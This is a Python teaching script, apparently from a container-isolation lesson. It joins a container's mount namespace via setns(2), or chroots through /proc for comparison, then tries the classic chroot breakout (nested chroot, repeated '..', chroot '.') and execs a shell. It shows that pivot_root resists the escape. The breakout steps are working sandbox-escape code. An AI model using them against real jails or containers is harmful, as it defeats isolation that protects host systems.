"""The chroot lesson's escape, tried from inside a container that was set up with pivot_root.

The image has no Python, so this script comes in the way `docker exec` does: it joins the running container's
mount namespace with setns(2). The interpreter is already loaded in memory; once the call returns, the process's
/ and working directory are the root of that namespace, which after pivot_root is the image. From there it runs
exactly the escape that worked against chroot: chroot into a subdirectory without entering it, climb "..", chroot
".". Then it becomes a shell: the image's busybox if it is still inside, the host's /bin/sh if it got out.

usage: escape.py [--chroot] PID MARKER     (PID: the container's shell; MARKER: a file that exists only on the host)

--chroot comes in with chroot("/proc/PID/root") instead of setns(2): the same root directory, but the process stays
in the host's mount namespace (to compare).
"""

from __future__ import annotations

import ctypes
import os
import sys

CLONE_NEWNS = 0x00020000


def setns(path: str, nstype: int) -> None:
    """setns(2): os.setns from Python 3.12 on, libc's through ctypes before. The process must be single-threaded
    to join a mount namespace (EINVAL otherwise), which a plain script is."""
    fd = os.open(path, os.O_RDONLY)
    try:
        if hasattr(os, "setns"):
            os.setns(fd, nstype)
            return
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.setns(fd, nstype) != 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err), path)
    finally:
        os.close(fd)


def can_read(path: str) -> str:
    try:
        with open(path) as f:
            return "reads: " + f.read().strip()
    except OSError as e:
        return f"cannot read it ({e.strerror})"


def main() -> int:
    args = sys.argv[1:]
    use_chroot = "--chroot" in args
    if use_chroot:
        args.remove("--chroot")
    if len(args) != 2 or not args[0].isdigit():
        print(__doc__, file=sys.stderr)
        return 2
    # a relative MARKER means the directory we start in; once we join the container, only its absolute path
    # names the host's file
    pid, marker = args[0], os.path.abspath(args[1])
    print(f"on the host: the host's {marker}: {can_read(marker)}")
    if use_chroot:
        # the container's root directory, reached through /proc: no namespace is joined
        os.chroot(f"/proc/{pid}/root")
        os.chdir("/")
        print(f"chrooted: / holds {sorted(os.listdir('/'))[:7]} ...")
    else:
        setns(f"/proc/{pid}/ns/mnt", CLONE_NEWNS)
        print(f"joined:  / holds {sorted(os.listdir('/'))[:7]} ...")

    # The escape, step by step as in the chroot lesson.
    os.makedirs("/escape", exist_ok=True)
    os.chroot("/escape")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print(f"after the escape attempt, / holds {sorted(os.listdir('/'))[:7]} ...")
    print(f"after the escape attempt, the host's {marker}: {can_read(marker)}")
    print("exec /bin/sh -- whichever / this process ended up in")
    os.execv("/bin/sh", ["/bin/sh"])


if __name__ == "__main__":
    sys.exit(main())
